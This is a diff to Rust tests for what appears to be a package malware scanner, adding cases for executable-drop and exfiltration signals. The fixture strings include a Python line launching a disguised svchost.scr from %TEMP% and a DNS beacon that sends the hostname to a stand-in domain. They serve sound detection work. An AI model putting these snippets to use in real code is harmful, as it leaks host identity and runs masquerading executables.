@@ -266,11 +266,30 @@ fn a_shipped_windows_program_started_is_an_executable() {
         SignalKind::ExecutableDrop
     ));
     assert!(has(
-        "import os\nos.system('start /b svchost.scr')\n",
+        "import os\nos.system('start /b %TEMP%\\\\svchost.scr')\n",
+        SignalKind::ExecutableDrop
+    ));
+    // A tool found on PATH (numpy's MinGW support runs `objdump.exe`).
+    assert!(!has(
+        "import subprocess\nsubprocess.check_output(['objdump.exe', '-p', dll])\n",
         SignalKind::ExecutableDrop
     ));
     assert!(!has(
         "import subprocess\nsubprocess.check_output(['vswhere.exe', '-latest', '-property', 'installationPath'])\n",
         SignalKind::ExecutableDrop
+    ));
+}
+
+/// A resolver looking up the machine's own name (dnspython's `getaddrinfo(gethostname())`)
+/// sends nothing; the same identity built into a longer name is a DNS beacon.
+#[test]
+fn resolving_the_own_host_name_is_not_exfiltration() {
+    assert!(!has(
+        "import socket\nhost = socket.gethostname()\nsocket.getaddrinfo(host, 80)\n",
+        SignalKind::ExfilFlow
+    ));
+    assert!(has(
+        "import socket\nhost = socket.gethostname()\nsocket.gethostbyname(host + '.beacon.example.invalid')\n",
+        SignalKind::ExfilFlow
     ));
 }
